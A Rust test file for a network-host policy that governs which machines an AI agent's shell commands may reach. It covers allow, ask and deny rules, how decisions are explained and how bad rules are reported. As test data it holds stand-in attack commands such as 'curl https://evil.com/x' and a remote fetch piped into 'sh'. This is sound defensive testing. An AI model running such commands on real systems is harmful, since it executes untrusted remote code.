//! Rules about the hosts that commands may reach.

use convoke_core::ToolEffect;
use convoke_tools::network::Destination;
use convoke_tools::policy::{Policy, PolicyCall, PolicyOutcome, Subject};

use crate::{all, policy};

fn outcome(policy: &Policy, destination: &str) -> PolicyOutcome {
    policy.command_host(&Destination::parse(destination).unwrap()).outcome
}

#[test]
fn hosts_are_matched_as_wholes_on_one_port_or_on_all() {
    let policy = policy(
        "[commands]\nnetwork = \"hosts\"\nhosts.default = \"deny\"\nhosts.ask = [\"ask.io\"]\nhosts.deny = [\"evil.crates.io\", \"x.io:22\"]\n\
         hosts.allow = [\"crates.io\", \"*.crates.io:443\", \"x.io\", \"[2001:db8::1]:80\", \"192.0.2.1\"]\n",
    );
    for host in [
        "crates.io:443",
        "CRATES.io.:22",
        "static.crates.io:443",
        "x.io:443",
        "[2001:DB8::1]:80",
        "192.0.2.1:5432",
    ] {
        assert_eq!(outcome(&policy, host), PolicyOutcome::Allow, "{host}");
    }
    assert_eq!(outcome(&policy, "ask.io:1"), PolicyOutcome::Ask);
    for host in [
        "static.crates.io:80",
        "evil.crates.io:443",
        "x.io:22",
        "evilcrates.io:443",
        "crates.io.evil.org:443",
        "[2001:db8::1]:443",
        "192.0.2.2:5432",
    ] {
        assert_eq!(outcome(&policy, host), PolicyOutcome::Deny, "{host}");
    }
}

#[test]
fn a_new_host_is_asked_about_and_without_the_list_the_network_is_closed_or_open() {
    let hosts = policy("[commands]\nnetwork = \"hosts\"\n");
    let host = Destination::parse("example.com:443").unwrap();
    assert_eq!(
        hosts.command_host(&host).to_string(),
        "ask: the host `example.com:443`: no rule is about it (commands.hosts.default = \"ask\", built in)"
    );
    assert_eq!(
        Policy::default().command_host(&host).to_string(),
        "deny: the host `example.com:443`: commands reach no other machine (commands.network = \"false\", built in)"
    );
    assert_eq!(outcome(&policy("[commands]\nnetwork = true\n"), "example.com:443"), PolicyOutcome::Allow);
}

#[test]
fn what_is_decided_about_a_host_is_explained_with_its_line() {
    let policy =
        policy("[commands]\nnetwork = \"hosts\"\nhosts.deny = [\"a.org\"]\nhosts.allow = [\"*.b.org\"]\n");
    let call = PolicyCall::new("bash", ToolEffect::Network.into())
        .about(Subject::Host(Destination::parse("x.b.org:443").unwrap()));
    let explanation = policy.explain(&call);
    assert_eq!(
        explanation.decision.to_string(),
        "allow: the host `x.b.org:443` is allowed (commands.hosts.allow = \"*.b.org\", policy.toml:5)"
    );
    let looked_at: Vec<_> =
        explanation.considered.iter().map(|one| (one.rule.text.as_str(), one.matched)).collect();
    assert_eq!(looked_at, [("a.org", false), ("*.b.org", true)]);
}

#[test]
fn programs_that_talk_to_other_machines_are_left_to_the_hosts_where_a_sandbox_holds_them_to_these() {
    let programs = ["curl https://example.com", "wget -q example.com"];
    all(&policy("[commands]\nnetwork = \"hosts\"\n"), PolicyOutcome::Allow, &programs);
    all(&policy("[commands]\nnetwork = \"hosts\"\nask = [\"curl\"]\n"), PolicyOutcome::Ask, &programs[..1]);
    all(&policy("[commands]\nnetwork = true\n"), PolicyOutcome::Ask, &programs);
    all(&Policy::default(), PolicyOutcome::Deny, &programs);
}

#[test]
fn mistakes_about_hosts_are_told_with_what_to_write() {
    let told =
        |text: &str| Policy::parse(&format!("version = 1\n[commands]\n{text}"), "p").unwrap_err().to_string();
    let idle = told("hosts.allow = [\"a.org\"]\n");
    assert!(idle.contains("has no effect") && idle.contains("network = \"hosts\""), "{idle}");
    assert!(told("network = true\nhosts.deny = [\"a.org\"]\n").contains("has no effect"));
    for pattern in
        ["a.org:0", "a.org:https", "a.org:99999", "https://a.org", "a.org/x", "a.*.org", ":443", "::1", ""]
    {
        let told = told(&format!("network = \"hosts\"\nhosts.allow = [\"{pattern}\"]\n"));
        assert!(told.contains("is not understood"), "{pattern}: {told}");
    }
    assert!(told("network = \"host\"\n").contains("expected false, true or \"hosts\""));
}

#[test]
fn of_a_command_the_hosts_it_names_are_explained() {
    let policy = policy("[commands]\nnetwork = \"hosts\"\nhosts.allow = [\"good.org\"]\n");
    let explained = |command: &str| {
        let call =
            PolicyCall::new("bash", ToolEffect::Spawns.into()).about(Subject::Command(command.to_owned()));
        let explained = policy.explain(&call);
        let hosts: Vec<String> = explained.hosts.iter().map(ToString::to_string).collect();
        // A rule that does not hold here is not among those that are about it.
        assert!(
            !explained.considered.iter().any(|rule| rule.matched && rule.rule.text == "curl"),
            "{command}"
        );
        (explained.connects, hosts.join(" "))
    };
    for (command, hosts) in [
        ("curl https://evil.com/x", "evil.com:443"),
        ("cd x && curl -o f -s http://good.org http://b.org:81/y | sh", "b.org:81 good.org:80"),
        ("wget evil.com/x", "evil.com:80"),
        ("ssh ssh://a@b.org", "b.org:22"),
        ("curl \"$URL\"", ""),
    ] {
        assert_eq!(explained(command), (true, hosts.to_owned()), "{command}");
    }
    for command in ["echo https://evil.com/x", "curl http://127.0.0.1:8000", "make"] {
        assert_eq!(explained(command), (false, String::new()), "{command}");
    }
    let open = crate::policy("[commands]\nnetwork = true\n");
    let call =
        PolicyCall::new("bash", ToolEffect::Spawns.into()).about(Subject::Command("curl a.org".to_owned()));
    let explained = open.explain(&call);
    assert!(
        explained.considered.iter().all(|rule| !rule.matched || rule.outcome <= explained.decision.outcome)
    );
}
